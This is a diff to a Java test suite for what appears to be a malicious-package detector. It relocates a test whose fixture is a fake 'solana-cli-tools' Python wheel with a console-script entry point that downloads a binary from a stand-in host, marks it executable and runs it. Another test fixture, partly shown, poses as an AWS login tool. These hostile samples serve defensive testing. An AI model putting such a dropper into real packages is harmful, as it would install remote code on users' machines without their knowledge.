@@ -58,6 +58,19 @@ class PythonEntryPointReplicasTest {
   @DisplayName("shape: console script payload")
   class ConsoleScript {
     @Test
+    void mainDownloadsToTempAndRunsTheFile() throws Exception {
+      wheel(tmp, "solana-cli-tools", "entry_points.txt", "[console_scripts]\nsolana-tools = solana_cli_tools:main\n",
+          "solana_cli_tools/__init__.py", """
+          import os, subprocess, tempfile, urllib.request
+          def main():
+              exe = os.path.join(tempfile.gettempdir(), "solana-helper")
+              urllib.request.urlretrieve("https://r.example.invalid/helper", exe)
+              os.chmod(exe, 0o755)
+              subprocess.Popen([exe])
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
+    }
+
+    @Test
     void mainRunsABase64Payload() throws Exception {
       wheel(tmp, "aws-login-tool", "entry_points.txt", "[console_scripts]\naws-login = aws_login.cli:main\n",
           "aws_login/__init__.py", "", "aws_login/cli.py", """
@@ -88,23 +101,6 @@ class PythonEntryPointReplicasTest {
           def cli():
               _prepare()
           """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
-    }
-  }
-
-  @Nested
-  @DisplayName("shape: console script payload (download, then run the file)")
-  class ConsoleScriptDropper {
-    @Test
-    void mainDownloadsToTempAndRunsTheFile() throws Exception {
-      wheel(tmp, "solana-cli-tools", "entry_points.txt", "[console_scripts]\nsolana-tools = solana_cli_tools:main\n",
-          "solana_cli_tools/__init__.py", """
-          import os, subprocess, tempfile, urllib.request
-          def main():
-              exe = os.path.join(tempfile.gettempdir(), "solana-helper")
-              urllib.request.urlretrieve("https://r.example.invalid/helper", exe)
-              os.chmod(exe, 0o755)
-              subprocess.Popen([exe])
-          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
     }
   }
 
